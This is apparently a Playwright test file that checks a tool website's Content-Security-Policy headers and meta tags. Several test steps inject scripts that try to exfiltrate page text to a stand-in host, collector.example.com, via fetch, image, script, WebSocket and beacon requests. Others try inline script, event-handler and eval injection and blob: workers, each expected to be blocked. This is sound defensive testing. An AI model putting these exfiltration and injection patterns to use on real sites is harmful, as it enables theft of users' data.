import { readFileSync } from 'node:fs';
import { loadEnv } from 'vite';
import {
  contentSecurityPolicy,
  cspConfigFromEnv,
  headersFile,
  inlineScripts,
  routeAddresses,
  sha256Source,
} from '../src/build/csp';
import { TOOLS } from './catalogue';
import { prerenderPaths } from '../src/core/site/seo';
import { expect, test, type CspViolation } from './fixtures';

/** The configuration the served build was made with (the same VITE_ variables vite build reads). */
const config = cspConfigFromEnv(loadEnv('production', process.cwd(), 'VITE_'));

/** Somewhere a page must never reach (CSP refuses it before any DNS lookup). */
const ELSEWHERE = 'https://collector.example.com';

/** The meta policy of a page's HTML, unescaped. */
function metaPolicy(html: string): string | undefined {
  const match = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
  return match?.[1].replace(/&quot;/g, '"').replace(/&amp;/g, '&');
}

/** Waits until the page reported a violation of `directive` for `blocked`, and takes it out of the list. */
async function takeViolation(violations: CspViolation[], directive: string, blocked: string): Promise<void> {
  const matches = (v: CspViolation) => v.directive === directive && v.blocked.startsWith(blocked);
  await expect.poll(() => violations.some(matches), `a ${directive} violation for ${blocked}`).toBe(true);
  for (let i = violations.length - 1; i >= 0; i--) if (matches(violations[i])) violations.splice(i, 1);
}

test.describe('Content-Security-Policy', () => {
  test("every page carries its policy; on a tool page, neither an injected script nor the tool's worker can reach another origin or run inline, evaluated or blob: code", async ({
    page,
    request,
    cspViolations,
  }) => {
    await test.step('every prerendered page and the 404 page carry their policy, in a meta tag and as a header', async () => {
      const paths = [...prerenderPaths(TOOLS), ...routeAddresses('/tools/twitch-clipper'), '/no/such/page'];
      expect(paths.length).toBeGreaterThan(TOOLS.length);
      for (const path of paths) {
        const response = await request.get(path);
        expect(response.status(), path).toBe(path === '/no/such/page' ? 404 : 200);
        const html = await response.text();
        const scriptHashes = inlineScripts(html).map(sha256Source);
        expect(scriptHashes, `${path}: the inline theme script`).toHaveLength(1);
        const header = response.headers()['content-security-policy'];
        expect(header, path).toBe(contentSecurityPolicy(config, { scriptHashes, path }));
        expect(metaPolicy(html), path).toBe(contentSecurityPolicy(config, { scriptHashes, form: 'meta', path }));
        // Only the Twitch clip helper's page may show a frame from Twitch.
        const twitchFrames = path.startsWith('/tools/twitch-clipper');
        expect(header.includes('frame-src https://player.twitch.tv https://clips.twitch.tv'), path).toBe(twitchFrames);
        // A meta policy governs only what follows it: it must come before every script and stylesheet.
        const metaAt = html.indexOf('http-equiv="Content-Security-Policy"');
        expect(metaAt, path).toBeLessThan(html.indexOf('<script'));
        expect(metaAt, path).toBeLessThan(html.indexOf('<link rel="stylesheet"'));
      }
    });
    await test.step('the default policy allows the own origin only, never inline or evaluated scripts', async () => {
      const header = (await request.get('/')).headers()['content-security-policy'];
      const directives = new Map(header.split('; ').map((d) => [d.split(' ')[0], d.split(' ').slice(1)]));
      expect(directives.get('default-src')).toEqual(["'self'"]);
      expect(directives.get('script-src')).not.toContain("'unsafe-inline'");
      expect(directives.get('script-src')).not.toContain("'unsafe-eval'");
      expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
      if (!config.analyticsId && !config.adClient && !config.supportEndpoint) {
        expect(header).not.toMatch(/https?:/);
      }
    });
    await test.step('npm start sends the header with every file, and _headers holds the same policies', async () => {
      const home = await request.get('/');
      const policy = home.headers()['content-security-policy'];
      expect(policy).toContain("frame-ancestors 'none'"); // what only the header can carry
      const worker = /\/assets\/[\w-]+\.js/.exec(await home.text())![0];
      expect((await request.get(worker)).headers()['content-security-policy']).toBe(policy);
      const scriptHashes = inlineScripts(await home.text()).map(sha256Source);
      expect(readFileSync('dist/_headers', 'utf8')).toBe(headersFile(config, { scriptHashes }));
      expect(readFileSync('dist/_headers', 'utf8')).toContain(`/*\n  Content-Security-Policy: ${policy}\n`);
    });

    const sockets: string[] = [];
    page.on('websocket', (ws) => sockets.push(ws.url()));
    await page.goto('/tools/hash-generator');

    await test.step("a tool's worker cannot reach another origin either", async () => {
      const workerStarted = page.waitForEvent('worker');
      await page.getByLabel('Text to hash').fill('abc');
      const worker = await workerStarted;
      await expect(page.getByTestId('digest-md5')).toHaveValue('900150983cd24fb0d6963f7d28e17f72');
      const outcome = await worker.evaluate(
        (elsewhere) =>
          new Promise<string[]>((resolve) => {
            const seen: string[] = [];
            self.addEventListener('securitypolicyviolation', (e) =>
              seen.push(`${e.effectiveDirective} ${e.blockedURI}`),
            );
            fetch(`${elsewhere}/from-worker`, { mode: 'no-cors' }).then(
              () => resolve(['sent', ...seen]),
              () => setTimeout(() => resolve(['blocked', ...seen]), 100),
            );
          }),
        ELSEWHERE,
      );
      expect(outcome).toHaveLength(2);
      expect(outcome[0]).toBe('blocked');
      expect(outcome[1]).toMatch(new RegExp(`^connect-src ${ELSEWHERE}/from-worker`));
    });

    await test.step('a script injected into the page cannot send anything to another origin', async () => {
      await page.getByLabel('Text to hash').fill('a secret');

      const outcomes = await page.evaluate(async (elsewhere) => {
        // The text editor lives in a shadow root; its editable element's value is the whole text.
        const editor = document.querySelector('[data-text-editor] > div')?.shadowRoot?.querySelector('.cm-content');
        const secret = encodeURIComponent(editor && 'value' in editor ? String(editor.value) : '');
        const settle = (start: (done: (outcome: string) => void) => void) =>
          new Promise<string>((resolve) => {
            start(resolve);
            setTimeout(() => resolve('no answer'), 3000);
          });
        return {
          fetch: await fetch(`${elsewhere}/fetch?d=${secret}`, { mode: 'no-cors' }).then(
            () => 'sent',
            () => 'blocked',
          ),
          image: await settle((done) => {
            const img = new Image();
            img.onload = () => done('sent');
            img.onerror = () => done('blocked');
            img.src = `${elsewhere}/pixel.gif?d=${secret}`;
          }),
          script: await settle((done) => {
            const script = document.createElement('script');
            script.onload = () => done('sent');
            script.onerror = () => done('blocked');
            script.src = `${elsewhere}/script.js?d=${secret}`;
            document.head.appendChild(script);
          }),
          webSocket: await settle((done) => {
            try {
              const ws = new WebSocket(`${elsewhere.replace('https:', 'wss:')}/socket?d=${secret}`);
              ws.onopen = () => done('sent');
              ws.onerror = () => done('blocked');
            } catch {
              done('blocked');
            }
          }),
          // sendBeacon answers before the policy check; the violation below proves it was refused.
          beacon: navigator.sendBeacon(`${elsewhere}/beacon`, secret),
        };
      }, ELSEWHERE);

      const { beacon: _queued, ...requests } = outcomes;
      expect(requests).toEqual({ fetch: 'blocked', image: 'blocked', script: 'blocked', webSocket: 'blocked' });
      // Refused by the browser's policy (not merely failed): each one is a reported violation...
      await takeViolation(cspViolations, 'connect-src', `${ELSEWHERE}/fetch`);
      await takeViolation(cspViolations, 'img-src', `${ELSEWHERE}/pixel.gif`);
      await takeViolation(cspViolations, 'script-src-elem', `${ELSEWHERE}/script.js`);
      await takeViolation(cspViolations, 'connect-src', 'wss://collector.example.com/socket');
      await takeViolation(cspViolations, 'connect-src', `${ELSEWHERE}/beacon`);
      // ...and no request or socket ever left (the fixture also fails on any request to another origin).
      expect(sockets).toEqual([]);
    });

    await test.step('injected inline code does not run: no inline script, event handler or eval', async () => {
      const ran = await page.evaluate(async () => {
        const w = window as unknown as { pwned?: string[] };
        w.pwned = [];
        const script = document.createElement('script');
        script.textContent = 'window.pwned.push("inline script")';
        document.body.appendChild(script);
        const div = document.createElement('div');
        div.innerHTML = '<img src="data:," onerror="window.pwned.push(\'event handler\')">';
        document.body.appendChild(div);
        // Later, in a task of the page's own (code run by page.evaluate itself may always eval).
        setTimeout(() => {
          try {
            window.eval('window.pwned.push("eval")');
          } catch {
            // refused
          }
        });
        await new Promise((resolve) => setTimeout(resolve, 200));
        return w.pwned;
      });
      expect(ran).toEqual([]);
      await takeViolation(cspViolations, 'script-src-elem', 'inline');
      await takeViolation(cspViolations, 'script-src-attr', 'inline');
      await takeViolation(cspViolations, 'script-src', 'eval');
    });

    await test.step('an injected script cannot start a worker from a blob: or data: URL', async () => {
      const outcomes = await page.evaluate(() => {
        const start = (url: string) =>
          new Promise<string>((resolve) => {
            const worker = new Worker(url);
            worker.onmessage = () => resolve('started');
            worker.onerror = () => resolve('blocked');
            setTimeout(() => resolve('no answer'), 3000);
          });
        return Promise.all([
          start(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))),
          start('data:text/javascript,postMessage(1)'),
        ]);
      });
      expect(outcomes).toEqual(['blocked', 'blocked']);
      await takeViolation(cspViolations, 'worker-src', 'blob');
      await takeViolation(cspViolations, 'worker-src', 'data');
    });
  });
});
